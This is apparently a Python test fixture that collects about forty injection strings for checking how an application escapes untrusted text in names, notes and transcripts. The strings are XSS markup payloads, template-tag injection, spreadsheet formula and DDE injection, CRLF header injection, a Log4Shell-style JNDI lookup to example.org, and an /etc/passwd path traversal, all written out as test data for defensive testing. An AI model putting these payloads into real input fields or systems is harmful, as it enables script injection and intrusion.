"""Forty texts that a caller may put where people read: in a name, a number, a transcript or a note."""

from tests.engine.hostile import HOSTILE

_MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "</textarea><button>Claim</button>",
    "</title><base href=//example.org/>",
    "<style>*{display:none}</style>",
    "<!-- -->--><b>",
    "<a href='javascript:alert(1)'>Call back</a>",
    "javascript:alert(1)",
    "&lt;script&gt;&#x3c;b&#x3e;",
)
_OF_TOOLS = (
    "{{ 7|add:7 }}{% debug %}",
    "{% load static %}",
    '=HYPERLINK("http://example.org";"Claim")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "Anna\r\nBcc: everybody@example.org",
    "%0d%0aSet-Cookie:a=b",
    "${jndi:ldap://example.org/a}",
    "../../../../etc/passwd",
)
FORTY = (*HOSTILE, *_OF_TOOLS, *_MARKUP)
